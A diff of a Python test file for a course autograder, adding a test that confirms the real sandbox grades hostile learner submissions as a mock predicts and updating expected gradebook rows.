+# --- through the real sandbox -------------------------------------------------------------------
+
+
+@pytest.mark.slow
+def test_hostile_files_are_graded_by_the_real_sandbox_as_the_mock_says(tmp_path: Path) -> None:
+    graded = grade_a_class(tmp_path, 12)  # learner000..011; the hostile ones are added below
+    directory = graded.directory
+    for learner, (exercise, source) in HOSTILE.items():
+        (directory / learner).mkdir()
+        (directory / learner / f"{exercise}.py").write_text(source, encoding="utf-8")
+    result = graded.course.grade(directory, graded.out)
+    assert result.exit_code == 0, result.output
+    _, rows = read_gradebook(graded.out)
+    assert rows["learner000"][:3] == ["2", "1", "3"] and rows["learner006"][:3] == ["1", "0.5", "1.5"]
+    for learner, (exercise, source) in HOSTILE.items():
+        [result_doc] = feedback_of(graded.out, learner)["files"][exercise]["results"]
+        marker = next(marker for marker in CANNED if marker in source.encode())
+        assert result_doc["run_status"] == CANNED[marker][0].value
+        assert rows[learner][2] == "0"
 
 
 @contextmanager
@@ -354,6 +929,7 @@ def _children() -> list[int]:
     return found
 
 
+@pytest.mark.slow
 @pytest.mark.skipif(sys.platform != "linux", reason="uses /proc and prctl")
 def test_an_interrupted_run_resumes_where_it_stopped_and_leaves_no_process_behind(tmp_path: Path) -> None:
     course = make_course(tmp_path / "course")
@@ -384,4 +960,4 @@ def test_an_interrupted_run_resumes_where_it_stopped_and_leaves_no_process_behin
     assert re.search(rf"reused {total - graded_count(resumed.output)} unchanged", resumed.output)
     _, rows = read_gradebook(out)
     assert len(rows) == 150
-    assert rows["learner000"] == ["2", "1", "3", "3"] and rows["learner146"] == ["1", "0.5", "1.5", "3"]
+    assert rows["learner000"] == ["2", "1", "3", "3", ""] and rows["learner146"] == ["1", "0.5", "1.5", "3", ""]
